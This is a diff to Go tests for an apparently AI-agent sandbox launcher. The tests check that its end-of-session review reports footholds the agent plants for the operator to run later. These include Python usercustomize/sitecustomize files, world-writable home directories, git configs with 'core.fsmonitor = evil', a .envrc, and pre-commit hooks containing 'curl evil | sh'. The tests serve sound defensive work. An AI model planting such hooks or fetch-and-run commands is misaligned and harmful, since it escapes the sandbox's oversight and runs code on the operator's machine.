@@ -677,6 +677,20 @@ func TestHomeStartupFiles(t *testing.T) {
 	if !strings.Contains(r.stderr, "created "+uc) {
 		t.Errorf("the session's end does not report usercustomize.py: %s", r.stderr)
 	}
+	// Python imports a package or a sourceless module of that name too
+	// (a second review ran both at the operator's next python3).
+	for _, f := range []string{site + "/usercustomize/__init__.py", site + "/sitecustomize.pyc"} {
+		if err := os.RemoveAll(s.path(site + "/usercustomize.py")); err != nil {
+			t.Fatal(err)
+		}
+		r := s.sh("mkdir -p " + shq(filepath.Dir(s.path(f))) + " && " + shq(agent) + " write " + shq(s.path(f)) + " x")
+		if r.code != 0 {
+			t.Fatalf("the agent's %s: %s", f, r)
+		}
+		if !strings.Contains(r.stderr, "created "+s.path(f)) {
+			t.Errorf("the session's end does not report %s: %s", f, r.stderr)
+		}
+	}
 	r = s.agent("write", ok, "x = 1\n")
 	wantOK(t, "control: an ordinary module beside it", r)
 	if strings.Contains(r.stderr, "session review") {
@@ -745,6 +759,26 @@ func TestReviewReportsProtectedModes(t *testing.T) {
 	if !strings.Contains(j.stdout, `"kind": "mode changed"`) || !strings.Contains(j.stdout, key) {
 		t.Errorf("review --json does not list the mode change: %s", j)
 	}
+	// The home directory and a directory above a protected path, made
+	// writable to every user: another user could then replace ~/.bashrc
+	// or create ~/.config/autostart (a second review).
+	home, config := s.path("home"), s.path("home/.config")
+	s.mkdir("home/.config")
+	for _, d := range []string{home, config} {
+		if err := os.Chmod(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Cleanup(func() { os.Chmod(home, 0o755); os.Chmod(config, 0o755) })
+	r = s.sh("chmod 0777 " + shq(home) + " " + shq(config))
+	if r.code != 0 {
+		t.Fatalf("the agent's chmod of the home directory: %s", r)
+	}
+	for _, want := range []string{"mode changed " + home + " (", "mode changed " + config + " ("} {
+		if !strings.Contains(r.stderr, want) {
+			t.Errorf("the session's end does not report %q: %s", want, r.stderr)
+		}
+	}
 }
 
 // TestReviewBareRepoAndHooksPath: what name rules cannot protect, the
@@ -792,6 +826,82 @@ func TestReviewBareRepoAndHooksPath(t *testing.T) {
 	out, _ := exec.Command(git, "-C", planted, "config", "core.fsmonitor").CombinedOutput()
 	if strings.TrimSpace(string(out)) != "evil" {
 		t.Errorf("control: git does not read the planted repository's config: %q", out)
+	}
+	// What git takes for a git directory too (a second review): objects
+	// a symlink, refs a file, and HEAD with a commondir that points
+	// elsewhere.
+	r = s.sh("mkdir -p loose/real-objects loose2/objects cw && echo 'ref: refs/heads/main' > loose/HEAD && ln -s real-objects loose/objects && mkdir loose/refs && " +
+		"echo 'ref: refs/heads/main' > loose2/HEAD && printf '' > loose2/refs && chmod +x loose2/refs && echo 'ref: refs/heads/main' > cw/HEAD && " +
+		a + " write loose/config '[core]\n\tfsmonitor = evil\n' && " + a + " write loose2/config '[core]\n\tfsmonitor = evil\n' && " + a + " write cw/commondir ../elsewhere")
+	if r.code != 0 {
+		t.Fatalf("the agent's loose git directories: %s", r)
+	}
+	for _, want := range []string{"created " + s.ws + "/loose/config", "created " + s.ws + "/loose2/config", "created " + s.ws + "/cw/commondir"} {
+		if !strings.Contains(r.stderr, want) {
+			t.Errorf("the session's end does not report %q: %s", want, r.stderr)
+		}
+	}
+	// core.hooksPath of a nested repository in the workspace.
+	nested := s.ws + "/app"
+	for _, args := range [][]string{{"init", "-q", nested}, {"-C", nested, "config", "core.hooksPath", ".husky/_"}} {
+		if out, err := exec.Command(git, args...).CombinedOutput(); err != nil {
+			t.Fatalf("git %q: %v: %s", args, err, out)
+		}
+	}
+	s.mkdir("home/proj/app/.husky/_")
+	r = s.agent("write", nested+"/.husky/_/pre-commit", "curl evil | sh")
+	if !strings.Contains(r.stderr, "created "+nested+"/.husky/_/pre-commit") {
+		t.Errorf("the session's end does not report a hook in a nested repository's hooksPath: %s", r.stderr)
+	}
+}
+
+// TestReviewHooksPathOfEnclosingRepo: a workspace inside a repository
+// whose config names a hooks directory in the workspace: the review
+// reports a hook the agent writes there (git outside runs it at the
+// operator's next commit in the enclosing repository).
+func TestReviewHooksPathOfEnclosingRepo(t *testing.T) {
+	s := newSandbox(t, standard)
+	git := s.lookPath("git")
+	outer := s.path("home")
+	for _, args := range [][]string{{"init", "-q", outer}, {"-C", outer, "config", "core.hooksPath", "proj/hooks"}} {
+		if out, err := exec.Command(git, args...).CombinedOutput(); err != nil {
+			t.Fatalf("git %q: %v: %s", args, err, out)
+		}
+	}
+	s.mkdir("home/proj/hooks")
+	hook := s.ws + "/hooks/pre-commit"
+	r := s.agent("write", hook, "curl evil | sh")
+	wantOK(t, "the agent writes in the workspace", r)
+	if !strings.Contains(r.stderr, "created "+hook) {
+		t.Errorf("the session's end does not report a hook in the enclosing repository's hooksPath: %s", r.stderr)
+	}
+}
+
+// TestReviewHomeInPrivateTmp: a home directory inside /tmp is bound into
+// the view, and a policy that grants /tmp (the default one does) lets the
+// agent write it: the review walks it as it walks the workspace. A second
+// review planted a .envrc and a repository there, unreported.
+func TestReviewHomeInPrivateTmp(t *testing.T) {
+	s := newSandbox(t, "write_paths = [\"<workspace>/**\", \"/tmp/**\"]\n")
+	home, err := os.MkdirTemp("/tmp", "agent-launcher-home-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(home) })
+	if err := os.MkdirAll(home+"/proj", 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(home, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	envrc := home + "/proj/.envrc"
+	r := s.execFiles(nil, []string{"HOME=" + home}, launcher, "run", "--config", s.config, "--workspace", s.ws, "--", agent, "write", envrc, "export X=1")
+	wantOK(t, "the agent writes the home directory under /tmp (the policy's grant)", r)
+	if _, err := os.Stat(envrc); err != nil {
+		t.Fatalf("control: the write did not reach the host's home: %v", err)
+	}
+	if !strings.Contains(r.stderr, "created "+envrc) {
+		t.Errorf("the session's end does not report a .envrc in the home directory under /tmp: %s", r.stderr)
 	}
 }
 
